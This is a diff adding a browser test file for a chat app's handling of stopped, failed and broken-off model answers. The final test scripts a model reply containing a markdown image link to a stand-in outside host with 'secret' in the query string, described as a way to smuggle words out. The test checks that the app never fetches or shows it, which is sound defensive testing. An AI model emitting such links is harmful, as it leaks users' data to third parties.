@@ -1,0 +1,102 @@
+# SPDX-License-Identifier: Apache-2.0
+"""What the screen shows when an answer is stopped, fails, or would lead elsewhere."""
+
+import time
+from collections.abc import Iterator
+from urllib.parse import urlsplit
+
+import pytest
+from playwright.sync_api import Browser
+
+from tests.browser.tab import ANSWER, open_tab
+from tests.running import Provider, Running, make_account, providing, running
+
+pytestmark = [pytest.mark.browser, pytest.mark.timeout(180)]
+
+LONG = "One sentence comes after the other here. " * 30
+FALLBACK = "The language model could not be reached, so the built-in assistant answered."
+
+
+@pytest.fixture(scope="module")
+def provider() -> Iterator[Provider]:
+    """A provider that each test scripts."""
+    with providing() as provider:
+        yield provider
+
+
+@pytest.fixture(scope="module")
+def server(tmp_path_factory: pytest.TempPathFactory, provider: Provider) -> Iterator[Running]:
+    """One server for this file, that asks the provider first."""
+    data = tmp_path_factory.mktemp("answers") / "data"
+    make_account(data, "ana", "Ana Sousa")
+    with running(data, provider.settings) as server:
+        yield server
+
+
+def test_stop_closes_the_upstream_and_keeps_what_was_said(
+    server: Running, provider: Provider, chromium: Browser
+) -> None:
+    """The provider loses its client at once, and the partial answer stands there after a reload too."""
+    provider.script({"kind": "drip", "text": LONG, "interval_s": 0.1})
+    before = provider.disconnects()
+    with open_tab(chromium, server.url) as tab:
+        tab.sign_in("ana")
+        tab.send("Tell me a long story.")
+        tab.page.locator(ANSWER).get_by_text("after the other").wait_for()
+        tab.page.click("#stop-button")
+        tab.settle()
+        assert _reached(provider, before + 1)
+        assert tab.notices == ["Stopped at your request. What was said so far is kept."]
+        partial = tab.answers[-1]
+        assert LONG.startswith(partial)
+        tab.shoot("stopped")
+        tab.page.reload()
+        tab.page.wait_for_selector("[data-testid=why-button]")
+        assert tab.answers == [partial]
+
+
+def _reached(provider: Provider, count: int) -> bool:
+    ends = time.monotonic() + 5
+    while provider.disconnects() < count and time.monotonic() < ends:
+        time.sleep(0.05)
+    return provider.disconnects() == count
+
+
+def test_a_fallback_is_said(server: Running, provider: Provider, chromium: Browser) -> None:
+    """A provider's error becomes the built-in assistant's answer and a notice, which stays in the history."""
+    provider.script({"kind": "500"})
+    with open_tab(chromium, server.url) as tab:
+        tab.sign_in("ana")
+        assert tab.say("Where do I live?")
+        assert tab.notices == [FALLBACK]
+        assert "SECRET-PROVIDER-TEXT" not in tab.page.content()
+        with tab.why() as panel:
+            assert "openai/test" in panel.get_by_test_id("why-fallbacks").inner_text()
+            tab.shoot("fallback-why")
+        tab.page.reload()
+        tab.page.wait_for_selector("[data-testid=why-button]")
+        assert tab.notices == [FALLBACK]
+        tab.shoot("fallback")
+
+
+def test_an_answer_that_breaks_off_is_replaced(server: Running, provider: Provider, chromium: Browser) -> None:
+    """What a dying model said first is gone from the screen; the next model's answer stands alone."""
+    provider.script({"kind": "abort", "text": LONG, "after": 20, "interval_s": 0.02})
+    with open_tab(chromium, server.url) as tab:
+        tab.sign_in("ana")
+        answer = tab.say("Tell me a long story.")
+        assert "after the other" not in answer
+        assert tab.notices == [FALLBACK]
+
+
+def test_an_answer_leads_nowhere_else(server: Running, provider: Provider, chromium: Browser) -> None:
+    """An image on another host, a way to smuggle words out, is never asked for; a link to it is not shown."""
+    told = "Look: ![chart](https://other.example/x.png?q=secret) and [here](https://other.example/)."
+    provider.script({"kind": "ok", "text": told})
+    with open_tab(chromium, server.url) as tab:
+        tab.sign_in("ana")
+        tab.say("Show me a chart.")
+        tab.page.wait_for_load_state("networkidle")
+        assert tab.hosts == {urlsplit(server.url).netloc}
+        assert tab.violations == []
+        assert "other.example" not in tab.page.content()
